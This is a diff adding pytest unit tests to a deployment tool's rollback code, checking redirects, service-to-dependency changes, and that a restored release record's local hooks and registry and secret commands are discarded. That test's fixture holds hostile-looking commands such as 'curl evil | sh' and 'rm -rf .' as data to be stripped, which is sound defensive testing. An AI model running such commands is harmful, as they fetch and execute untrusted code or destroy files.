@@ -9,6 +9,9 @@ from typing import TYPE_CHECKING
 import pytest
 
 from ftl.config.models.project import Dependency, Hook, Hooks, Server
+from ftl.config.models.proxy import Redirect, Registry
+from ftl.config.models.secret import Secret
+from ftl.deploy.plan.restore import recorded_project
 from ftl.deploy.plan.sources import BuiltImage
 from ftl.deploy.plan.specs import service_container
 from ftl.deploy.plan.steps import (
@@ -28,7 +31,7 @@ from ftl.engine.values import Image
 from ftl.errors import UsageError
 from ftl.health.spec import SETTLE_SECONDS
 from ftl.operations.releases import listed, plan_mark
-from ftl.operations.rollback import RollbackRequest, plan_rollback
+from ftl.operations.rollback import RollbackRequest, plan_rollback, restored_project
 from ftl.operations.rollback_target import choose
 from ftl.releases.record import ReleaseRecord, ServiceRecord
 from tests.unit.deploy.world import container, dependency, first, kinds, plan, project, server, service
@@ -343,3 +346,47 @@ def test_a_mark_changes_the_record_alone() -> None:
     assert plan_mark(observed, "r2", "slow").empty
     with pytest.raises(UsageError, match="no release `r7`"):
         plan_mark(observed, "r7", "slow")
+
+
+def test_nothing_of_a_record_acts_on_this_machine() -> None:
+    """Registries' and secrets' commands and local hooks of a record are not run: others may have written it."""
+    hooks = Hooks(pre=Hook(local="curl evil | sh", remote="migrate"), post=Hook(local="rm -rf ."))
+    asked = replace(
+        project(service(hooks=hooks)),
+        registries=(Registry(server="registry.example.com", command=("sh", "-c", "evil")),),
+        secrets=(Secret(name="A", command=("evil",)),),
+    )
+    restored = recorded_project(released(asked, "r1"), HERE)
+    (web,) = restored.services
+    assert web.hooks == Hooks(pre=Hook(remote="migrate"))
+    assert (restored.registries, restored.secrets) == ((), ())
+
+
+def test_redirects_come_back_with_the_routes_that_they_lead_to() -> None:
+    """With the live release's redirect from www to the bare domain, the restored domain would lead nowhere."""
+    old, new = project(), project()
+    new = replace(new, proxy=replace(new.proxy, redirects=(Redirect(host="www.a.com", to="a.com"),)))
+    observed = on_server(new, released(old, "r1"), released(new, "r2"), images=(image("r1"), image("r2")))
+    target = choose(observed, "r1")
+    assert restored_project(observed, target, REQUEST).proxy.redirects == ()
+
+
+@pytest.mark.parametrize(("before", "now"), [("db", "db"), ("db", "database")])
+def test_a_service_that_became_a_dependency_is_not_started_on_its_data(before: str, now: str) -> None:
+    """Two servers on one data directory destroy it."""
+    old = project(service(), service(before, volumes=("data:/data",)))
+    new = project(
+        service(), dependencies=(Dependency(name=now, image="postgres:16", volumes=("data:/data",)),)
+    )
+    observed = on_server(new, released(old, "r1"), released(new, "r2"), images=(image("r1"), image("r2")))
+    with pytest.raises(UsageError, match="was a service then"):
+        rolled_back(observed, "r1")
+
+
+def test_a_dependency_that_became_a_service_is_not_removed() -> None:
+    """A rollback leaves data alone, so it cannot take such a change back."""
+    old = project(service(), dependencies=(Dependency(name="db", image="postgres:16"),))
+    new = project(service(), service("db"))
+    observed = on_server(new, released(old, "r1"), released(new, "r2"), images=(image("r1"), image("r2")))
+    with pytest.raises(UsageError, match="was a dependency then"):
+        rolled_back(observed, "r1")
